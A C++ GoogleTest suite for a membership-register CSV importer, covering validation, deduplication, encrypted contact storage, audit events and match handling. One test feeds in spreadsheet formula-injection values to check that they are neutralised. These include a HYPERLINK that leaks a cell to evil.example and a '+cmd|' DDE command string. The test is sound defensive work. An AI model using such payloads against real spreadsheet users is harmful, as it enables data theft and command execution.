#include "members/import.h"

#include <gtest/gtest.h>
#include <sys/stat.h>

#include <set>

#include "audit/audit_log.h"
#include "core/csv.h"
#include "members/contact.h"
#include "members/register.h"
#include "members/testing_env.h"
#include "store/testing/faulty_store.h"

namespace switchboard::members {
namespace {

using testing::ReadFile;
using testing::WriteFile;

const char kHeader[] =
    "member_id,first_name,last_name,email,phone,mobile,postcode,constituency,status,joined,"
    "consent_email,consent_phone,consent_candidates\n";

// 14 data rows: 4 good, 10 bad in distinct ways (comments give each line's fate).
std::string MixedFile() {
  std::string s = kHeader;
  s += "M1,Alice,Smith,alice.smith@example.org,,07700 900001,SW1A "
       "1AA,E14000530,current,2019-05-01,yes,yes,no\n";  // 2 ok
  s += "M2,Bob,Jones,bob@example.com,020 7946 0018,,AB1 "
       "2AD,Aldershot,lapsed,2015-01-01,no,yes,yes\n";            // 3 ok
  s += "M3,Carol,Brown,not-an-email,,,,E14000530,current,,,,\n";  // 4 bad email
  s += "M4,Dan,White,,12,,,E14000530,,,,,\n";                     // 5 bad phone
  s += "M5,Eve,Green,,,,,Atlantis,,,,,\n";                        // 6 unknown unit
  s += "M6,,Black,,,,,E14000530,,,,,\n";                          // 7 no first name
  s += "M7,Fay,Grey,,,,,E14000530\n";                             // 8 too few fields
  s += "M1,Alice,Again,,,,,E14000530,,,,,\n";                     // 9 duplicate id
  s += "M8,Gus,\"Open,,,,,E14000530,,,,,\n";                      // 10 quote never closed
  s += "M9,Hal,Ward,,,,,E14000530,arrears,01/02/2020,1,0,0\n";    // 11 ok (UK date)
  s += "M10,Ivy,B\xff\xfe,,,,,E14000530,,,,,\n";                  // 12 bad UTF-8
  s += "M11,Jo,King,,,,,E14000530,weird,,,,\n";                   // 13 bad status
  s += ",Kay,Hill,kay.hill@example.org,,,,E14000530,,,,,\n";      // 14 ok (id from email)
  s += ",Lee,Ford,,,,,E14000530,,,,,\n";                          // 15 no id, no email
  return s;
}

struct Reject {
  std::string line, column, reason;
};

std::vector<Reject> ReadRejects(const std::string& path) {
  const std::string text = ReadFile(path);
  csv::Reader r(text);
  csv::Record rec;
  std::string err;
  std::vector<Reject> out;
  bool header = true;
  while (r.Read(&rec, &err) == csv::Next::kRecord) {
    if (header) {
      header = false;
      continue;
    }
    out.push_back({rec.fields[0], rec.fields[1], rec.fields[2]});
  }
  return out;
}

class ImportTest : public ::testing::TestWithParam<std::string> {
 protected:
  void SetUp() override { env_.SetUp(GetParam()); }
  Result<ImportSummary> Import(const std::string& text, ImportOptions opt = {},
                               const std::string& name = "members.csv") {
    const std::string path = env_.dir_->Join(name);
    WriteFile(path, text);
    if (!opt.unit_column && opt.profile == "native") opt.unit_column = "constituency";
    opt.batch_size = 3;  // several batches even for small files
    return ImportMembers(*env_.store_, env_.tree_, *env_.sealer_, path, opt, clock_);
  }
  testing::RegisterEnv env_;
  ManualClock clock_{*ParseTimestamp("2026-11-24T12:00:00Z")};
};

TEST_P(ImportTest, EveryRowAccountedForWithReasons) {
  auto sum = Import(MixedFile());
  ASSERT_TRUE(sum) << sum.error().ToString();
  EXPECT_EQ(sum->rows, 14u);
  EXPECT_EQ(sum->imported, 4u);
  EXPECT_EQ(sum->rejected, 10u);
  EXPECT_EQ(sum->imported + sum->updated + sum->unchanged + sum->rejected, sum->rows);
  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM members"), 4);
  // Every member written is named in an audit event committed with it.
  std::set<std::int64_t> audited;
  ASSERT_TRUE(env_.store_
                  ->Read([&](store::Tx& tx) -> Status {
                    SB_ASSIGN_OR_RETURN(auto evs, audit::AuditLog::Query(tx, {}));
                    for (const auto& e : evs) {
                      EXPECT_EQ(e.action, "member.import.add");
                      audited.insert(e.members.begin(), e.members.end());
                    }
                    return Status::Ok();
                  })
                  .ok());
  EXPECT_EQ(audited.size(), 4u);

  ASSERT_FALSE(sum->rejects_file.empty());
  struct stat st;
  ASSERT_EQ(stat(sum->rejects_file.c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0600u);  // rejects hold personal data
  auto rejects = ReadRejects(sum->rejects_file);
  ASSERT_EQ(rejects.size(), 10u);
  std::map<std::string, Reject> by_line;
  for (auto& r : rejects) by_line[r.line] = r;
  EXPECT_EQ(by_line["4"].column, "email");
  EXPECT_EQ(by_line["5"].column, "phone");
  EXPECT_EQ(by_line["6"].column, "constituency");
  EXPECT_NE(by_line["6"].reason.find("Atlantis"), std::string::npos);
  EXPECT_EQ(by_line["7"].column, "first_name");
  EXPECT_NE(by_line["8"].reason.find("expected 13 fields"), std::string::npos);
  EXPECT_NE(by_line["9"].reason.find("line 2"), std::string::npos);
  EXPECT_NE(by_line["10"].reason.find("never closed"), std::string::npos);
  EXPECT_NE(by_line["12"].reason.find("UTF-8"), std::string::npos);
  EXPECT_EQ(by_line["13"].column, "status");
  EXPECT_EQ(by_line["15"].column, "member_id");
  // Reasons never repeat the bad personal values.
  EXPECT_EQ(by_line["4"].reason.find("not-an-email"), std::string::npos);
  for (auto& r : rejects) EXPECT_FALSE(r.reason.empty()) << "line " << r.line;
}

TEST_P(ImportTest, ReimportIsIdempotentAndChangesAreUpdates) {
  ASSERT_TRUE(Import(MixedFile()));
  const auto contacts = env_.Count("SELECT COUNT(*) FROM contact_points");
  const auto consents = env_.Count("SELECT COUNT(*) FROM consent_events");
  auto again = Import(MixedFile());
  ASSERT_TRUE(again) << again.error().ToString();
  EXPECT_EQ(again->imported, 0u);
  EXPECT_EQ(again->updated, 0u);
  EXPECT_EQ(again->unchanged, 4u);
  EXPECT_EQ(again->rejected, 10u);
  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM members"), 4);
  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM contact_points"), contacts);
  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM consent_events"), consents);
  // Unchanged rows write nothing, so they add nothing to the audit log.
  const auto events = env_.Count("SELECT COUNT(*) FROM audit_events");
  EXPECT_GE(events, 1);

  std::string changed = MixedFile();
  const std::string before = "current,2019-05-01,yes,yes,no";
  changed.replace(changed.find(before), before.size(), "lapsed,2019-05-01,no,yes,no");
  auto third = Import(changed);
  ASSERT_TRUE(third) << third.error().ToString();
  EXPECT_EQ(third->updated, 1u);
  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM audit_events WHERE action = 'member.import.update'"),
            1);
  EXPECT_EQ(third->unchanged, 3u);
  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM members WHERE status = 'lapsed'"), 2);
  // The consent change is in the history, the old state kept.
  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM consent_events"), consents + 1);
}

TEST_P(ImportTest, ContactDataIsEncryptedAtRest) {
  ASSERT_TRUE(Import(MixedFile()));
  std::vector<crypto::Sealed> emails;
  ASSERT_TRUE(
      env_.store_
          ->Read([&](store::Tx& tx) {
            return tx.Query(
                "SELECT c.key_id, c.sealed FROM contact_points c JOIN members m ON m.id = "
                "c.member_id WHERE m.external_id = 'M1' AND c.kind = 'email'",
                {}, [&](const store::Row& r) {
                  emails.push_back({static_cast<std::uint32_t>(r.Int(0)), std::string(r.Bytes(1))});
                  return true;
                });
          })
          .ok());
  ASSERT_EQ(emails.size(), 1u);
  EXPECT_EQ(emails[0].bytes.find("alice"), std::string::npos);
  auto opened = env_.sealer_->Open(emails[0], "email");
  ASSERT_TRUE(opened) << opened.error().ToString();
  EXPECT_EQ(*opened, "alice.smith@example.org");
  // Phones are stored as E.164.
  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM contact_points WHERE kind = 'phone'"), 2);
  if (GetParam() == "sqlite") {
    const std::string raw =
        ReadFile(env_.dir_->Join("sb.db")) + ReadFile(env_.dir_->Join("sb.db-wal"));
    EXPECT_EQ(raw.find("alice.smith@example.org"), std::string::npos);
    EXPECT_EQ(raw.find("447700900001"), std::string::npos);
  }
}

TEST_P(ImportTest, PlacesByPostcodeTable) {
  const std::string pc_path = env_.dir_->Join("postcodes.csv");
  WriteFile(pc_path,
            "pcds,pcon\nSW1A 1AA,E14000530\nab12ad,E14000531\nnonsense,E14000530\nZZ1 1ZZ,E99\n");
  auto pcs = ImportPostcodes(*env_.store_, env_.tree_, pc_path, "");
  ASSERT_TRUE(pcs) << pcs.error().ToString();
  EXPECT_EQ(pcs->rows, 4u);
  EXPECT_EQ(pcs->loaded, 2u);
  EXPECT_EQ(pcs->rejected, 2u);
  ImportOptions opt;
  opt.profile = "native";
  const std::string file =
      "member_id,first_name,last_name,postcode\nP1,Ann,Lee,sw1a1aa\nP2,Ben,Ray,AB1 2AD\n"
      "P3,Cat,Roy,EH1 1AA\nP4,Dee,Fox,\n";
  const std::string path = env_.dir_->Join("pc-members.csv");
  WriteFile(path, file);
  auto sum = ImportMembers(*env_.store_, env_.tree_, *env_.sealer_, path, opt, clock_);
  ASSERT_TRUE(sum) << sum.error().ToString();
  EXPECT_EQ(sum->imported, 2u);
  EXPECT_EQ(sum->rejected, 2u);
  auto rejects = ReadRejects(sum->rejects_file);
  ASSERT_EQ(rejects.size(), 2u);
  EXPECT_NE(rejects[0].reason.find("postcode table"), std::string::npos);
  EXPECT_NE(rejects[1].reason.find("no postcode"), std::string::npos);
  const Unit* aldershot = env_.tree_.FindByCode("E14000530");
  EXPECT_EQ(env_.Count("SELECT unit_id FROM members WHERE external_id = 'P1'"),
            aldershot->id.value());
  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM members WHERE postcode_district = 'SW1A'"), 1);
}

TEST_P(ImportTest, NationBuilderProfile) {
  ImportOptions opt;
  opt.profile = "nationbuilder";
  opt.unit_column = "pcon";
  const std::string file =
      "nationbuilder_id,first_name,last_name,email,email_opt_in,phone_number,mobile_number,"
      "mobile_opt_in,do_not_call,is_deceased,primary_address1,primary_city,primary_zip,pcon\n"
      "101,Mia,Patel,mia@example.org,true,,07700900123,false,false,false,1 High Street,Leeds,LS1 "
      "1AA,E14000530\n"
      "102,Raj,Khan,raj@example.org,false,,07700900124,true,true,false,,,,E14000530\n";
  auto sum = Import(file, opt, "nb.csv");
  ASSERT_TRUE(sum) << sum.error().ToString();
  EXPECT_EQ(sum->imported, 2u);
  EXPECT_EQ(env_.Count("SELECT consents FROM members WHERE external_id = '101'"),
            kConsentEmail | kConsentPhone);
  EXPECT_EQ(env_.Count("SELECT consents FROM members WHERE external_id = '102'"), kConsentSms);
  EXPECT_EQ(env_.Count("SELECT suppressions FROM members WHERE external_id = '102'"), kNoPhone);
  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM members WHERE source = 'nationbuilder'"), 2);
  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM contact_points WHERE kind = 'address'"), 1);
}

TEST_P(ImportTest, CiviCrmProfile) {
  ImportOptions opt;
  opt.profile = "civicrm";
  opt.unit_column = "Constituency";
  const std::string file =
      "Contact ID,First Name,Last Name,Email,Phone,Postal Code,Do Not Email,Do Not Phone,"
      "Do Not SMS,Deceased,Membership Status,Member Since,Constituency\n"
      "7,Zoë,Évans,zoe@example.net,0113 496 0001,LS1 4AP,0,0,1,0,Current,2001-03-04,Aldershot\n"
      "8,Tom,Hart,tom@example.net,,,1,0,0,1,Expired,2001-03-04,Aldershot\n";
  auto sum = Import(file, opt, "civi.csv");
  ASSERT_TRUE(sum) << sum.error().ToString();
  EXPECT_EQ(sum->imported, 2u);
  EXPECT_EQ(env_.Count("SELECT consents FROM members WHERE external_id = '7'"),
            kConsentEmail | kConsentPhone);
  EXPECT_EQ(env_.Count("SELECT suppressions FROM members WHERE external_id = '8'"),
            kNoEmail | kDeceased);
  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM members WHERE status = 'lapsed'"), 1);
}

TEST_P(ImportTest, HeaderProblemsFailBeforeWriting) {
  ImportOptions bad_profile;
  bad_profile.profile = "salesforce";
  auto a = Import(MixedFile(), bad_profile);
  ASSERT_FALSE(a);
  EXPECT_EQ(a.error().code(), StatusCode::kInvalidArgument);
  auto b = Import("member_id,last_name,constituency\nM1,Smith,E14000530\n");
  ASSERT_FALSE(b);
  EXPECT_NE(b.error().message().find("first_name"), std::string::npos);
  ImportOptions wrong_col;
  wrong_col.unit_column = "ward";
  auto c = Import(MixedFile(), wrong_col);
  ASSERT_FALSE(c);
  EXPECT_NE(c.error().message().find("ward"), std::string::npos);
  ImportOptions by_postcode;  // no unit column, and the postcode table is empty
  const std::string path = env_.dir_->Join("nopc.csv");
  WriteFile(path, "member_id,first_name,last_name,postcode\nP1,A,B,SW1A 1AA\n");
  auto d = ImportMembers(*env_.store_, env_.tree_, *env_.sealer_, path, by_postcode, clock_);
  ASSERT_FALSE(d);
  EXPECT_NE(d.error().message().find("import postcodes"), std::string::npos);
  auto e = Import("");
  ASSERT_FALSE(e);
  EXPECT_NE(e.error().message().find("empty"), std::string::npos);
  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM members"), 0);
}

TEST_P(ImportTest, HugeLineIsRejectedAndTheRestImported) {
  std::string s = kHeader;
  s += "M1,Alice,Smith,,,,,E14000530,,,,,\n";
  s += "M2,Bob," + std::string(10 << 20, 'x') + ",,,,,E14000530,,,,,\n";
  s += "M3,Cy,Dee,,,,,E14000530,,,,,\n";
  auto sum = Import(s);
  ASSERT_TRUE(sum) << sum.error().ToString();
  EXPECT_EQ(sum->rows, 3u);
  EXPECT_EQ(sum->imported, 2u);
  EXPECT_EQ(sum->rejected, 1u);
  auto rejects = ReadRejects(sum->rejects_file);
  ASSERT_EQ(rejects.size(), 1u);
  EXPECT_EQ(rejects[0].line, "3");
}

// A member's own fields go back into the rejects file, which a data officer
// opens in a spreadsheet: a cell that starts a formula must arrive as text.
TEST_P(ImportTest, TheRejectsFileNeutralisesFormulasAndReimportsCleanly) {
  std::string s = kHeader;
  s += "F1,\"=HYPERLINK(\"\"http://evil.example/"
       "?d=\"\"&A1,\"\"click\"\")\",Smith,,,,,Atlantis,,,,,\n";
  s += "F2,@SUM(1+1),Jones,,,,,Atlantis,,,,,\n";
  s += "F3,Cy,+cmd|' /C calc'!A0,,,,,Atlantis,,,,,\n";
  s += "F4,Di,-Smith,,,+44 7700 900123,,Atlantis,,,,,\n";
  s += "F5,\"\tTab\",\"\rCr\",,,,,Atlantis,,,,,\n";
  auto sum = Import(s);
  ASSERT_TRUE(sum) << sum.error().ToString();
  ASSERT_EQ(sum->rejected, 5u);
  const std::string text = ReadFile(sum->rejects_file);
  // No cell (a field at the start of a line or after a comma) opens with a
  // formula character, quoted or not.
  csv::Reader r(text);
  csv::Record rec;
  std::string err;
  int rows = 0;
  while (r.Read(&rec, &err) == csv::Next::kRecord) {
    ++rows;
    for (const std::string& f : rec.fields) {
      EXPECT_TRUE(f.empty() || std::string_view("=+-@\t\r").find(f[0]) == std::string_view::npos)
          << f;
    }
  }
  EXPECT_EQ(rows, 6);
  EXPECT_NE(text.find("\"'=HYPERLINK(\"\"http://evil.example/"), std::string::npos) << text;
  EXPECT_NE(text.find("\"'@SUM(1+1)\""), std::string::npos);
  EXPECT_NE(text.find("\"'+cmd|' /C calc'!A0\""), std::string::npos);
  EXPECT_NE(text.find("\"'+44 7700 900123\""), std::string::npos);

  // The officer corrects the unit in the rejects file's rows and imports them
  // again: the apostrophes do not end up in the register.
  auto quoted = [](const std::vector<std::string>& row) {  // RFC 4180, nothing more
    std::string line;
    for (size_t i = 0; i < row.size(); ++i) {
      line += i ? ",\"" : "\"";
      for (char c : row[i]) line += c == '"' ? std::string("\"\"") : std::string(1, c);
      line += '"';
    }
    return line + "\n";
  };
  std::string fixed = kHeader;
  csv::Reader again(text);
  bool header = true;
  while (again.Read(&rec, &err) == csv::Next::kRecord) {
    if (header) {
      header = false;
      continue;
    }
    std::vector<std::string> row(rec.fields.begin() + 3, rec.fields.end());
    row[7] = "E14000530";
    row[0] = "G" + row[0];
    fixed += quoted(row);
  }
  auto sum2 = Import(fixed, {}, "fixed.csv");
  ASSERT_TRUE(sum2) << sum2.error().ToString();
  EXPECT_EQ(sum2->imported, 5u) << ReadFile(sum2->rejects_file);
  EXPECT_EQ(sum2->rejected, 0u);
  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM members WHERE first_name = '@SUM(1+1)'"), 1);
  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM members WHERE last_name = '-Smith'"), 1);
  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM members WHERE first_name LIKE '''%'"), 0);
}

TEST_P(ImportTest, StoreFailureLeavesNoHalfWrittenMembers) {
  store::testing::FaultyStore faulty(*env_.store_);
  faulty.FailNthWrite(2, store::testing::FaultMode::kAfterCallback);
  const std::string path = env_.dir_->Join("f.csv");
  WriteFile(path, MixedFile());
  ImportOptions opt;
  opt.unit_column = "constituency";
  opt.batch_size = 3;
  auto sum = ImportMembers(faulty, env_.tree_, *env_.sealer_, path, opt, clock_);
  ASSERT_FALSE(sum);
  EXPECT_EQ(sum.error().code(), StatusCode::kUnavailable);
  // The first batch committed; the failed one left nothing behind.
  const auto members = env_.Count("SELECT COUNT(*) FROM members");
  EXPECT_GE(members, 1);
  EXPECT_LT(members, 4);
  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM members m WHERE NOT EXISTS (SELECT 1 FROM "
                       "consent_events e WHERE e.member_id = m.id)"),
            0);
  // Running it again completes the import without duplicates.
  auto again = Import(MixedFile());
  ASSERT_TRUE(again) << again.error().ToString();
  EXPECT_EQ(static_cast<std::int64_t>(again->unchanged), members);
  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM members"), 4);
}

TEST_P(ImportTest, ProgressIsReported) {
  ImportOptions opt;
  std::uint64_t calls = 0, last_rows = 0;
  opt.progress = [&](std::uint64_t done, std::uint64_t total, std::uint64_t rows) {
    ++calls;
    EXPECT_LE(done, total);
    last_rows = rows;
  };
  ASSERT_TRUE(Import(MixedFile(), opt));
  EXPECT_GE(calls, 2u);
  EXPECT_EQ(last_rows, 14u);
}

// The same three people as a native export and as a NationBuilder export.
const char kNativePeople[] =
    "member_id,first_name,last_name,email,mobile,postcode,constituency\n"
    "N1,Ann,Lee,ann.lee@example.org,07700 900301,SW1A 1AA,E14000530\n"
    "N2,Ben,Ray,ben.ray@example.org,07700 900302,SW1A 1AB,E14000530\n"
    "N3,Cat,Roy,,07700 900303,SW1A 2AA,E14000530\n";  // no e-mail: matched by phone and name

std::string NationBuilderPeople(const std::string& ben_last_name = "Ray") {
  return "nationbuilder_id,first_name,last_name,email,mobile_number,primary_zip,pcon,tags\n"
         "501,Ann,Lee,ANN.LEE@example.org,+447700900301,SW1A 1AA,E14000530,donor\n"
         "502,Ben," +
         ben_last_name +
         ",ben.ray@example.org,07700900302,SW1A 1AB,E14000530,\n"
         "503,Cat,Roy,,07700 900303,SW1A 2AA,E14000530,volunteer\n";
}

ImportOptions NationBuilder(OnMatch on_match = OnMatch::kSkip) {
  ImportOptions opt;
  opt.profile = "nationbuilder";
  opt.unit_column = "pcon";
  opt.on_match = on_match;
  return opt;
}

TEST_P(ImportTest, CrossProfileReimportChangesNothingAndReportsTheMatches) {
  auto first = Import(kNativePeople);
  ASSERT_TRUE(first) << first.error().ToString();
  ASSERT_EQ(first->imported, 3u);
  const auto contacts = env_.Count("SELECT COUNT(*) FROM contact_points");
  const auto events = env_.Count("SELECT COUNT(*) FROM audit_events");
  auto sum = Import(NationBuilderPeople(), NationBuilder(), "nb.csv");
  ASSERT_TRUE(sum) << sum.error().ToString();
  EXPECT_EQ(sum->rows, 3u);
  EXPECT_EQ(sum->imported, 0u);
  EXPECT_EQ(sum->skipped, 3u);
  EXPECT_EQ(sum->matched, 3u);
  EXPECT_EQ(sum->matched_by_email, 2u);
  EXPECT_EQ(sum->matched_by_phone, 1u);
  EXPECT_EQ(sum->imported + sum->updated + sum->unchanged + sum->skipped + sum->rejected,
            sum->rows);
  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM members"), 3);
  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM members WHERE source = 'nationbuilder'"), 0);
  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM contact_points"), contacts);
  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM audit_events"), events);
  ASSERT_EQ(sum->reports.size(), 3u);
  EXPECT_EQ(sum->reports[0].line, 2u);
  EXPECT_EQ(sum->reports[0].key, "email+phone");
  EXPECT_EQ(sum->reports[2].key, "phone");
  EXPECT_EQ(sum->reports[2].outcome, MatchOutcome::kSkipped);
  EXPECT_EQ(sum->reports[2].member.value(),
            env_.Count("SELECT id FROM members WHERE external_id = 'N3'"));
  // The rejects file names each matched row, the member and the key, with
  // the row as the file has it.
  auto rejects = ReadRejects(sum->rejects_file);
  ASSERT_EQ(rejects.size(), 3u);
  EXPECT_EQ(rejects[0].line, "2");
  EXPECT_EQ(rejects[0].column, "email");
  EXPECT_NE(rejects[0].reason.find("skipped"), std::string::npos);
  EXPECT_EQ(rejects[2].column, "mobile_number");
  EXPECT_NE(rejects[2].reason.find("by phone"), std::string::npos);
  EXPECT_NE(ReadFile(sum->rejects_file).find("volunteer"), std::string::npos);
  // The column NationBuilder's profile does not read is listed.
  EXPECT_EQ(sum->unmapped_columns, std::vector<std::string>{"tags"});
}

TEST_P(ImportTest, OnMatchUpdateUpdatesTheMatchedMemberAudited) {
  ASSERT_TRUE(Import(kNativePeople));
  auto sum = Import(NationBuilderPeople("Rayner"), NationBuilder(OnMatch::kUpdate), "nb.csv");
  ASSERT_TRUE(sum) << sum.error().ToString();
  EXPECT_EQ(sum->imported, 0u);
  EXPECT_EQ(sum->matched, 3u);
  EXPECT_EQ(sum->updated + sum->unchanged, 3u);
  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM members"), 3);
  // The member keeps its own source and id; its fields are the file's.
  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM members WHERE external_id = 'N2' AND last_name = "
                       "'Rayner' AND source = 'native'"),
            1);
  const auto ben = env_.Count("SELECT id FROM members WHERE external_id = 'N2'");
  std::set<std::int64_t> updated;
  ASSERT_TRUE(env_.store_
                  ->Read([&](store::Tx& tx) -> Status {
                    SB_ASSIGN_OR_RETURN(auto evs, audit::AuditLog::Query(tx, {}));
                    for (const auto& e : evs) {
                      if (e.action == "member.import.update") {
                        updated.insert(e.members.begin(), e.members.end());
                      }
                    }
                    return Status::Ok();
                  })
                  .ok());
  EXPECT_EQ(updated.count(ben), 1u);
  // Updating again changes nothing further.
  auto again = Import(NationBuilderPeople("Rayner"), NationBuilder(OnMatch::kUpdate), "nb.csv");
  ASSERT_TRUE(again) << again.error().ToString();
  EXPECT_EQ(again->unchanged, 3u);
  EXPECT_EQ(again->updated, 0u);
}

TEST_P(ImportTest, OnMatchRejectCountsMatchesAsRejected) {
  ASSERT_TRUE(Import(kNativePeople));
  auto sum = Import(NationBuilderPeople(), NationBuilder(OnMatch::kReject), "nb.csv");
  ASSERT_TRUE(sum) << sum.error().ToString();
  EXPECT_EQ(sum->rejected, 3u);
  EXPECT_EQ(sum->skipped, 0u);
  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM members"), 3);
  auto rejects = ReadRejects(sum->rejects_file);
  ASSERT_EQ(rejects.size(), 3u);
  EXPECT_NE(rejects[1].reason.find("rejected (--on-match reject)"), std::string::npos);
}

TEST_P(ImportTest, EmailAndPhoneOfDifferentMembersIsAConflictNotAGuess) {
  ASSERT_TRUE(Import(kNativePeople));
  // Ann's e-mail with Ben's name and mobile.
  const std::string file =
      "nationbuilder_id,first_name,last_name,email,mobile_number,pcon\n"
      "601,Ben,Ray,ann.lee@example.org,07700 900302,E14000530\n";
  auto sum = Import(file, NationBuilder(OnMatch::kUpdate), "nb.csv");
  ASSERT_TRUE(sum) << sum.error().ToString();
  EXPECT_EQ(sum->conflicts, 1u);
  EXPECT_EQ(sum->rejected, 1u);
  EXPECT_EQ(sum->matched, 0u);
  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM members WHERE first_name = 'Ben'"), 1);
  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM members"), 3);
  auto rejects = ReadRejects(sum->rejects_file);
  ASSERT_EQ(rejects.size(), 1u);
  EXPECT_NE(rejects[0].reason.find("not imported"), std::string::npos);
  // Member ids, never the contact values.
  EXPECT_EQ(rejects[0].reason.find("example.org"), std::string::npos);
}

TEST_P(ImportTest, APhoneMatchesOnlyWithTheSameName) {
  ASSERT_TRUE(Import(kNativePeople));
  // Ann's household mobile, another person: a new member, not a match.
  const std::string file =
      "nationbuilder_id,first_name,last_name,email,mobile_number,pcon\n"
      "701,Dot,Lee,,07700 900301,E14000530\n";
  auto sum = Import(file, NationBuilder(OnMatch::kUpdate), "nb.csv");
  ASSERT_TRUE(sum) << sum.error().ToString();
  EXPECT_EQ(sum->imported, 1u);
  EXPECT_EQ(sum->matched, 0u);
  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM members WHERE first_name = 'Ann'"), 1);
}

TEST_P(ImportTest, ANumberHeldByManyMembersIdentifiesNobody) {
  std::string office = "member_id,first_name,last_name,mobile,constituency\n";
  for (int i = 0; i <= kMaxContactHolders; ++i) {
    office += "O" + std::to_string(i) + ",Pat,Lee" + std::string(1, static_cast<char>('a' + i)) +
              ",07700 900999,E14000530\n";
  }
  ASSERT_TRUE(Import(office));
  const std::string file =
      "nationbuilder_id,first_name,last_name,mobile_number,pcon\n"
      "901,Pat,Leea,07700 900999,E14000530\n";
  auto sum = Import(file, NationBuilder(OnMatch::kUpdate), "nb.csv");
  ASSERT_TRUE(sum) << sum.error().ToString();
  EXPECT_EQ(sum->matched, 0u);
  EXPECT_EQ(sum->imported, 1u);
  // With one holder fewer, the same row is a match.
  ASSERT_TRUE(env_.store_
                  ->WriteNow([](store::Tx& tx) {
                    return tx.Exec("DELETE FROM members WHERE external_id = 'O1'").status();
                  })
                  .ok());
  ASSERT_TRUE(env_.store_
                  ->WriteNow([](store::Tx& tx) {
                    return tx.Exec("DELETE FROM members WHERE external_id = '901'").status();
                  })
                  .ok());
  auto again = Import(file, NationBuilder(OnMatch::kUpdate), "nb.csv");
  ASSERT_TRUE(again) << again.error().ToString();
  EXPECT_EQ(again->matched, 1u);
  EXPECT_EQ(again->imported, 0u);
}

TEST_P(ImportTest, SameNameAndPostcodeIsReportedAsAPossibleDuplicate) {
  ASSERT_TRUE(Import(kNativePeople));
  // Ann Lee, same postcode district, a new e-mail and no phone.
  const std::string file =
      "nationbuilder_id,first_name,last_name,email,primary_zip,pcon\n"
      "801,ann,LEE,a.lee@example.org,SW1A 2ZZ,E14000530\n"
      "802,Eve,Lee,eve@example.org,SW1A 2ZZ,E14000530\n";
  auto sum = Import(file, NationBuilder(), "nb.csv");
  ASSERT_TRUE(sum) << sum.error().ToString();
  EXPECT_EQ(sum->imported, 2u);  // not merged automatically
  EXPECT_EQ(sum->possible_duplicates, 1u);
  EXPECT_EQ(sum->matched, 0u);
  ASSERT_EQ(sum->reports.size(), 1u);
  EXPECT_EQ(sum->reports[0].line, 2u);
  EXPECT_EQ(sum->reports[0].key, "name+postcode");
  EXPECT_EQ(sum->reports[0].outcome, MatchOutcome::kPossibleDuplicate);
  EXPECT_EQ(sum->reports[0].member.value(),
            env_.Count("SELECT id FROM members WHERE external_id = 'N1'"));
  auto rejects = ReadRejects(sum->rejects_file);
  ASSERT_EQ(rejects.size(), 1u);
  EXPECT_NE(rejects[0].reason.find("possibly a duplicate"), std::string::npos);
  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM members"), 5);
}

TEST_P(ImportTest, RowsOfOneFileSharingAnEmailAreNotBothAdded) {
  const std::string file =
      "member_id,first_name,last_name,email,constituency\n"
      "S1,Ann,Lee,ann.lee@example.org,E14000530\n"
      "S2,Ann,Lee,ann.lee@example.org,E14000530\n";
  auto sum = Import(file);
  ASSERT_TRUE(sum) << sum.error().ToString();
  EXPECT_EQ(sum->imported, 1u);
  EXPECT_EQ(sum->skipped, 1u);
  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM members"), 1);
}

TEST(ImportProfilesTest, DescribeEveryProfile) {
  for (const auto& p : ProfileNames()) {
    auto cols = DescribeProfile(p);
    ASSERT_TRUE(cols) << p;
    EXPECT_GE(cols->size(), 10u) << p;
  }
  EXPECT_FALSE(DescribeProfile("salesforce"));
}

INSTANTIATE_TEST_SUITE_P(Backends, ImportTest, ::testing::Values("sqlite", "postgres"));

}  // namespace
}  // namespace switchboard::members
